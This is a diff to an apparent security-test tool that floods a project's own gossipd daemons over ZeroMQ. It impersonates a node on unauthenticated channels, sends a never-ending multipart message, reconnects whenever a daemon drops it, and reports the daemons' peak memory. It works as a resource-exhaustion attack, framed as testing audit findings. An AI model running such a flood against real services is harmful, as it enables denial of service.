@@ -10,7 +10,8 @@
 //   gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]
 //     Speaks ZeroMQ to every port of every gossipd child of PID as node N (a routing
 //     id is all an unauthenticated peer channel asks for) and sends one message
-//     that never ends: 64 KiB frames, each marked "more" (finding 2).
+//     that never ends: 64 KiB frames, each marked "more" (finding 2). Connects
+//     again when a daemon cuts it, and prints the daemons' peak memory each time.
 //
 //   gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]
 //     With node K's own valid CURVE key (read from gossipctl cluster --curve's run
@@ -38,6 +39,8 @@
 #include <thread>
 #include <vector>
 #include <zmq.hpp>
+
+#include "tests/security/zmtp_by_hand.h"
 
 namespace {
 
@@ -154,46 +157,25 @@ int idle_connect(int parent, double seconds) {
   return 0;
 }
 
-// ZMTP 3.0 by hand (rfc.zeromq.org/spec/23): libzmq itself never sends a message's
-// parts before its last one, so an endless message needs a hand-made peer.
-bool zmtp_hello(int fd, const std::string& identity) {
-  unsigned char greeting[64] = {0xFF, 0, 0, 0, 0, 0, 0, 0, 0, 0x7F, 3, 0};
-  std::memcpy(greeting + 12, "NULL", 4);
-  if (::send(fd, greeting, sizeof greeting, MSG_NOSIGNAL) != sizeof greeting) return false;
-  unsigned char theirs[64];
-  for (size_t got = 0; got < sizeof theirs;) {
-    const ssize_t n = ::recv(fd, theirs + got, sizeof theirs - got, 0);
-    if (n <= 0) return false;
-    got += static_cast<size_t>(n);
-  }
-  std::string body = "\x05READY";
-  const auto property = [&](const std::string& name, const std::string& value) {
-    body += static_cast<char>(name.size());
-    body += name;
-    const uint32_t n = htonl(static_cast<uint32_t>(value.size()));
-    body.append(reinterpret_cast<const char*>(&n), 4);
-    body += value;
-  };
-  property("Socket-Type", "DEALER");
-  property("Identity", identity);
-  std::string command = {'\x04', static_cast<char>(body.size())};
-  command += body;
-  return ::send(fd, command.data(), command.size(), MSG_NOSIGNAL) ==
-         static_cast<ssize_t>(command.size());
+// The most memory `pid` has held (VmHWM), in MiB, or -1.
+long peak_mib(int pid) {
+  const std::string status = read_file(fs::path("/proc") / std::to_string(pid) / "status");
+  const auto at = status.find("VmHWM:");
+  return at == std::string::npos ? -1 : std::atol(status.c_str() + at + 6) / 1024;
 }
 
 int multipart_flood(int parent, int as_node, double seconds) {
   std::map<int, int> sockets;  // port -> a connection sending one endless message
+  std::map<int, size_t> at;    // port -> where its frame stands
   const auto end = Clock::now() + std::chrono::duration<double>(seconds);
-  // A long frame with "more" set: flags 0x03, an 8-byte size, 64 KiB.
-  constexpr size_t kFrame = 64 << 10;
-  std::vector<unsigned char> frame(9 + kFrame, 'x');
-  frame[0] = 0x03;
-  for (int i = 0; i < 8; ++i)
-    frame[1 + i] = static_cast<unsigned char>((kFrame >> (56 - 8 * i)) & 0xFF);
+  const std::vector<unsigned char> frame = gossip::testing::zmtp_more_frame(64 << 10);
   uint64_t sent = 0;
+  auto scanned = Clock::now() - std::chrono::seconds(1);
   while (Clock::now() < end) {
-    for (int pid : daemons_of(parent))
+    // Reading /proc is slow: a scan every loop would throttle the flood to a few MB/s.
+    const bool scan = Clock::now() - scanned > std::chrono::milliseconds(250);
+    if (scan) scanned = Clock::now();
+    for (int pid : scan ? daemons_of(parent) : std::vector<int>{})
       for (int port : listening_ports(pid)) {
         if (sockets.count(port)) continue;
         const int fd = connect_to(port);
@@ -201,7 +183,7 @@ int multipart_flood(int parent, int as_node, double seconds) {
         timeval tv{2, 0};
         ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
         ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
-        if (!zmtp_hello(fd, "node-" + std::to_string(as_node))) {
+        if (!gossip::testing::zmtp_hello(fd, "node-" + std::to_string(as_node))) {
           ::close(fd);
           sockets[port] = -1;  // not ZeroMQ (the ring's port): left alone
           continue;
@@ -212,13 +194,16 @@ int multipart_flood(int parent, int as_node, double seconds) {
     bool any = false;
     for (auto& [port, fd] : sockets) {
       if (fd < 0) continue;
-      const ssize_t n = ::send(fd, frame.data(), frame.size(), MSG_NOSIGNAL);
+      const ssize_t n = gossip::testing::zmtp_push(fd, frame, at[port], 20);
       if (n > 0) sent += static_cast<uint64_t>(n), any = true;
-      if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
+      if (n < 0) {
         std::printf("port %d closed the connection after %llu MiB\n", port,
                     static_cast<unsigned long long>(sent >> 20));
+        for (int pid : daemons_of(parent))
+          std::printf("gossipd %d peak memory %ld MiB\n", pid, peak_mib(pid));
         ::close(fd);
         fd = -1;
+        at.erase(port);
         sockets.erase(port);  // connect again: the attack goes on
         break;
       }
